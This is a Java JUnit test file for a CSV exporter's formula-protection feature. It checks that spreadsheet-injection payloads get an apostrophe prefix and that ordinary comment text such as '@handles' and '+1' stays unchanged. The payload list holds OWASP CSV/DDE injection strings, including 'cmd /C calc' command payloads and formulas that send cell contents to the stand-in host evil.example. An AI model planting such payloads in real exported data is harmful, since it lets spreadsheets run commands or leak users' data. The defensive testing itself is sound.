package io.starexport.writer.csv;

import com.fasterxml.jackson.databind.ObjectMapper;
import io.starexport.api.Comment;
import io.starexport.api.Content;
import io.starexport.api.Item;
import io.starexport.api.ItemFields;
import io.starexport.spi.RecordWriter;
import io.starexport.spi.WriterOptions;
import org.junit.jupiter.api.Test;

import java.io.BufferedReader;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStreamReader;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.TreeMap;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Formula protection rewrites the cells a spreadsheet would run and nothing else. The payloads are those of
 * OWASP's CSV injection page (https://owasp.org/www-community/attacks/CSV_Injection) and its DDE examples;
 * the corpus is real comment text and author names from recorded platform responses
 * ({@code src/test/resources/formula-corpus/README.md}).
 */
class FormulaProtectionTest {
    private static final ObjectMapper MAPPER = new ObjectMapper();

    private static final List<String> OWASP_PAYLOADS = List.of(
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://evil.example/?leak=\"&A1&A2, \"Error: please click for details\")",
            "=1+1",
            "+1+1",
            "-2+3",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1,1)",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "\t@SUM(1,1)",
            "\r-2+3",
            "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
            "=rundll32|'URL.dll,OpenURL calc.exe'!A",
            "+cmd|' /C calc'!A0",
            "-cmd|' /C calc'!A0",
            "=IMPORTXML(CONCAT(\"http://evil.example?v=\", CONCATENATE(A2:E2)), \"//a\")",
            "=WEBSERVICE(\"http://evil.example/\"&A1)",
            "-A1",
            "+Sheet1!B2*2",
            "=A1",
            " =1+1");

    private static final List<String> ORDINARY_TEXT = List.of(
            "@HappyNoodle94",
            "@HappyNoodle94 agreed, the ending was great",
            "@lea1993",
            "@HappyNoodle94 (the one from the stream) is right",
            "-- great video",
            "-zimms-",
            "+1 agree",
            "+1",
            "-1",
            "=)",
            "==",
            "=(",
            "@ Itx Waseem ❤️",
            "- first point\n- second point",
            "\tindented",
            "\rreturn",
            "a=b");

    @Test
    void everyOwaspPayloadIsNeutralised() throws IOException {
        assertThat(textCells(true, OWASP_PAYLOADS)).containsExactlyElementsOf(
                OWASP_PAYLOADS.stream().map(payload -> "'" + payload).toList());
    }

    @Test
    void handlesDashesPlusOnesAndSmileysAreLeftAsWritten() throws IOException {
        assertThat(textCells(true, ORDINARY_TEXT)).containsExactlyElementsOf(ORDINARY_TEXT);
    }

    @Test
    void withoutProtectionEveryCellIsWrittenAsItIs() throws IOException {
        assertThat(textCells(false, OWASP_PAYLOADS)).containsExactlyElementsOf(OWASP_PAYLOADS);
    }

    /** The counts docs/formats.md quotes: the old rule (every cell starting with = + - @ tab CR) against this one. */
    @Test
    void onRealCommentsProtectionRewritesOnlyFormulaCells() throws IOException {
        Map<String, int[]> counts = new TreeMap<>();
        List<String> rewritten = new ArrayList<>();
        for (String[] row : corpus()) {
            String kind = row[1];
            String text = MAPPER.readValue(row[2], String.class);
            int[] count = counts.computeIfAbsent(kind, k -> new int[3]);
            count[0]++;
            if ("=+-@\t\r".indexOf(text.charAt(0)) >= 0) {
                count[1]++;
            }
            if (Formulas.evaluates(text)) {
                count[2]++;
                rewritten.add(text);
            }
        }

        assertThat(counts).hasEntrySatisfying("author", c -> assertThat(c).containsExactly(1525, 53, 0))
                .hasEntrySatisfying("text", c -> assertThat(c).containsExactly(1315, 20, 0));
        assertThat(rewritten).isEmpty();
    }

    private static List<String[]> corpus() throws IOException {
        List<String[]> rows = new ArrayList<>();
        try (BufferedReader reader = new BufferedReader(new InputStreamReader(Objects.requireNonNull(
                FormulaProtectionTest.class.getResourceAsStream("/formula-corpus/corpus.tsv")), StandardCharsets.UTF_8))) {
            for (String line = reader.readLine(); line != null; line = reader.readLine()) {
                rows.add(line.split("\t", 3));
            }
        }
        return rows;
    }

    private static List<String> textCells(boolean protection, List<String> texts) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        WriterOptions options = WriterOptions.ofDefaults(Content.COMMENTS)
                .withFormatOptions(Map.of(CsvOptions.FORMULA_PROTECTION, Boolean.toString(protection)));
        try (RecordWriter writer = new CsvFormat().open(out, options)) {
            for (int i = 0; i < texts.size(); i++) {
                Item comment = Comment.builder().platform("youtube").id("c" + i).postId("v1").text(texts.get(i))
                        .build();
                writer.write(comment);
            }
        }
        int text = ItemFields.columns(Content.COMMENTS).indexOf("text");
        List<List<String>> records = Rfc4180.parse(out.toString(StandardCharsets.UTF_8));
        return records.subList(1, records.size()).stream().map(record -> record.get(text)).toList();
    }
}
